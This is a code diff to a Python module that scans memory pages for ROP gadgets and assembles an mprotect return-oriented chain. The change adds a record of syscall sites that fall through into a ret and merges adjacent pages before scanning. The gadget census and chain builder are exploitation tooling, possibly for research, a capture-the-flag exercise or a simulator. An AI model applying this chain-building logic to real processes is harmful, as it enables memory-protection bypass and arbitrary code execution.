@@ -41,10 +41,12 @@ def default_gadget_specs() -> tuple[GadgetSpec, ...]:
 
 @dataclass(frozen=True, slots=True)
 class GadgetCatalog:
-    """Census result: every address per gadget kind, sorted ascending."""
+    """Census result: every address per gadget kind, sorted ascending, plus
+    the syscall sites whose next byte, read in the same census, is a ret."""
 
     found: dict[str, tuple[int, ...]]
     searched_pages: int
+    syscalls_into_ret: tuple[int, ...] = ()
 
     def lowest(self, name: str) -> int | None:
         addrs = self.found.get(name)
@@ -59,31 +61,54 @@ class MissingGadgetError(Exception):
         self.missing = tuple(sorted(missing))
 
 
+def _runs(bases: list[int]) -> list[tuple[int, int]]:
+    """Maximal runs [start, end) of adjacent pages among sorted ``bases``."""
+    runs: list[tuple[int, int]] = []
+    for base in bases:
+        if runs and runs[-1][1] == base:
+            runs[-1] = (runs[-1][0], base + PAGE_SIZE)
+        else:
+            runs.append((base, base + PAGE_SIZE))
+    return runs
+
+
 def find_gadgets(space: AddressSpace, pages: Iterable[int]) -> GadgetCatalog:
     """Scan every page base in ``pages``, each one probed accessible, for
     every pattern in default_gadget_specs().
 
-    No other page is read.  A pattern straddling two adjacent pages of the
-    set counts too, since execution would cross the boundary just as
-    happily.
+    No other page is read.  Each maximal run of adjacent pages is read
+    once and scanned once per distinct last pattern byte; at each hit the
+    byte before it names the kind.  So a pattern straddling two adjacent
+    pages of the set counts too, since execution would cross the boundary
+    just as happily, and one ending outside the set does not.
     """
     specs = default_gadget_specs()
-    max_len = max(len(s.pattern) for s in specs)
+    # last byte -> first byte -> kind; every pattern is two bytes long
+    kinds_by_last: dict[int, dict[int, str]] = {}
+    for spec in specs:
+        first, last = spec.pattern
+        kinds_by_last.setdefault(last, {})[first] = spec.name
+    ret = next(s.pattern[-1:] for s in specs if s.name.endswith("-ret"))
     accessible = set(pages)
     hits: dict[str, list[int]] = {s.name: [] for s in specs}
-    for base in sorted(accessible):
-        buf = space.read_bytes(base, PAGE_SIZE)
-        if base + PAGE_SIZE in accessible and max_len > 1:
-            buf += space.read_bytes(base + PAGE_SIZE, max_len - 1)
-        for spec in specs:
-            pos = buf.find(spec.pattern)
+    into_ret: list[int] = []
+    for start, end in _runs(sorted(accessible)):
+        buf = space.read_bytes(start, end - start)
+        for last, kinds in kinds_by_last.items():
+            pos = buf.find(last, 1)
             while pos != -1:
-                if pos < PAGE_SIZE:
-                    hits[spec.name].append(base + pos)
-                pos = buf.find(spec.pattern, pos + 1)
+                name = kinds.get(buf[pos - 1])
+                if name is not None:
+                    hits[name].append(start + pos - 1)
+                    # the chain continues past a syscall only through a ret
+                    # right after it, read here in the same run
+                    if name == "syscall" and buf[pos + 1 : pos + 2] == ret:
+                        into_ret.append(start + pos - 1)
+                pos = buf.find(last, pos + 1)
     return GadgetCatalog(
         found={name: tuple(addrs) for name, addrs in hits.items()},
         searched_pages=len(accessible),
+        syscalls_into_ret=tuple(into_ret),
     )
 
 
@@ -122,18 +147,14 @@ def chain_len(variant: str) -> int:
     return 2 * len(required_kinds(variant)) - 1
 
 
-def _pick_syscall(catalog: GadgetCatalog, space: AddressSpace | None) -> int:
+def _pick_syscall(catalog: GadgetCatalog) -> int:
     """Choose the syscall site.  The chain continues past the call only if
-    the bytes after it fall through into a ret, so when the space is
-    available prefer the lowest occurrence followed by C3; otherwise take
-    the lowest occurrence as for any other kind."""
-    addrs = catalog.found.get("syscall") or ()
-    if space is not None:
-        for addr in addrs:
-            page = space.get_page(addr + 2)
-            if page is not None and page.data[(addr + 2) % PAGE_SIZE] == 0xC3:
-                return addr
-    return addrs[0]
+    the bytes after it fall through into a ret, so prefer the lowest
+    occurrence the census saw followed by C3; otherwise take the lowest
+    occurrence as for any other kind."""
+    if catalog.syscalls_into_ret:
+        return catalog.syscalls_into_ret[0]
+    return catalog.found["syscall"][0]
 
 
 def build_mprotect_chain(
@@ -142,7 +163,6 @@ def build_mprotect_chain(
     cave_len: int,
     prot_value: int,
     variant: str = "sound-5",
-    space: AddressSpace | None = None,
 ) -> RopChain:
     """Build the argument-loading chain for one memory-protection syscall.
 
@@ -168,7 +188,7 @@ def build_mprotect_chain(
     words += [
         g("pop-rax-ret"),
         imm(SYS_MPROTECT),
-        ChainWord(_pick_syscall(catalog, space), "gadget-address"),
+        ChainWord(_pick_syscall(catalog), "gadget-address"),
     ]
     assert len(words) == chain_len(variant)
     return RopChain(tuple(words))
